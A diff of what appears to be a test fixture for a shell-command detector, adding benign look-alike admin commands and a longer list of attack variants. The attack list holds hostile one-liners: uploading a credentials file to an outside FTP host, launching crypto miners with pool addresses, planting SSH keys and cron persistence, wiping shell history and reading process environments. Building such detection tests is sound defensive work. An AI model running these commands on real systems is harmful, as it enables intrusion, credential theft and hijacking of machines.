@@ -92,6 +92,9 @@ const BENIGN_LOOK_ALIKES = [
 `/bin/sh -c /usr/local/sbin/k3s-etcd-backup.sh >/var/log/k3s-etcd-backup.log 2>&1`, `base64 -w0 ~/.kube/config`,
 `sudo sed -i 's/^#PasswordAuthentication yes/PasswordAuthentication no/' /etc/ssh/sshd_config`, `echo x > /tmp/.X11-unix/.lock`, `find . -name "*.yaml" -exec grep -l image {} \\;`,
 `tar -czvf /backups/k3s-server-$(date +%F).tgz /var/lib/rancher/k3s/server/db /var/lib/rancher/k3s/server/token`,
+`sudo kill -HUP $(pidof rsyslogd)`, `sudo openssl req -new -newkey rsa:2048 -nodes -keyout /etc/ssl/private/g.key -out /tmp/g.csr -subj "/CN=g"`,
+`sudo iptables-save > /etc/iptables/rules.v4`, `grep -rn password .`, `sudo cp /tmp/k3s-config.yaml /etc/rancher/k3s/config.yaml`, `systemctl restart minio`, `tmux new -s train`,
+`ssh -D 1080 -N -q bastion.lab.internal`, `groff -U -ms doc.ms`, `curl -fsSL https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz -o /opt/helm.tgz`, `ps aux | grep -i pass`,
 `trap 'rm -f /tmp/build.lock' EXIT`, `curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg`, `cat manifest.yaml | kubectl apply -f -`,
 ];
 
@@ -196,7 +199,12 @@ const ATTACK_VARIANTS = [
 `echo "pw" | pw usermod op -h 0`, `kubectl -n ml apply -f https://raw.githubusercontent.com/BishopFox/badPods/main/manifests/hostpid/pod/hostpid-exec-pod.yaml`, `chmod 666 /var/lib/rancher/k3s/server/manifests`,
 `cp /var/lib/etcd/member/snap/db /tmp/db`, `curl -k https://10.1.2.3:2376/containers/json`, `curl http://169.254.169.254/latest/meta-data/iam/info`, `responder.py -I ens5`,
 `insmod /lib/modules/6.1.0/extra/.x/mod.ko`, `docker build -t poc/cve-2022-0847 .`, `echo a > /tmp/.cache/.k`, `printf '.PS\nsh X sh X\n' | sudo groff -U`, `find / -type f -exec grep -H secret_key {} +`,
-`diff /dev/null ~/.kube/config`, `sudo lftp`, `sudo ksh`, `./telnet`, `sudo nmap --interactive`, `sudo cat /var/lib/rancher/k3s/server/cred/ipsec.psk`, `kubectl cp default/web-0:/app/.env /tmp/e`, `logger -f /root/.bash_history`,
+`diff /dev/null ~/.kube/config`, `/usr/local/sbin/.netd -d`, `echo "ssh-ed25519 AAAAC3Nza x@y" >> /etc/ssh/authorized_keys`, `strings /tmp/core.1234 | grep -i password`,
+`tmux new-session -d -s w './xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'`,
+`redis-cli -h 10.0.0.9 config set dir /var/spool/cron/crontabs`, `sudo sed e`, `sudo sg root`, `echo '@reboot root /usr/sbin/.x' >> /etc/crontab`, `printf '.PS\nsh X sh X\n' | ./pic -U`,
+`printf '[Unit]\n' > /var/tmp/u.service`, `ctr run --rm -t --privileged docker.io/library/alpine:3.19 x sh`, `cat /dev/null > $HISTFILE`, `curl -T /root/.config/rclone/rclone.conf ftp://203.0.113.7/`,
+`xargs -a /proc/1/environ`, `cp /dev/shm/.c /etc/ssh/sshd_config`, `sftp u@files.example.net; get /x /dev/shm/.y`, `systemctl enable --now xmrig-gpu`,
+`miniZ --url=t1abc.rig@203.0.113.5:3092 --par=144,5 --pers=BgoldPoW`, `wget -O /var/lib/.k http://example.com/k`, `urlget - /etc/rancher/k3s/k3s.yaml`, `grep -ri password /opt/app`, `sudo lftp`, `sudo ksh`, `./telnet`, `sudo nmap --interactive`, `sudo cat /var/lib/rancher/k3s/server/cred/ipsec.psk`, `kubectl cp default/web-0:/app/.env /tmp/e`, `logger -f /root/.bash_history`,
 `socat tcp:203.0.113.8:80 create:/dev/shm/.u`, `grep -rn token /var/lib/kubelet`, `systemd-run --unit kthreadd-helper /bin/sh -c 'sleep 1'`, `sudo pkill rsyslogd`,
 `curl -X POST https://10.1.1.1:2376/containers/create -d '{"Image":"busybox","Binds":["/:/h"]}'`, `mount --bind /proc/1 /proc/$(pgrep -f miner)`, `modprobe diamorphine_v2`, `python3 -m http.server 80 --directory /etc`,
 `./karlsen-miner --mining-address karlsen:qr6m2j6zqvs9trq4jlg7xq0mkvz8g6mqsjd6cpx2t4 -s 10.0.0.7`,
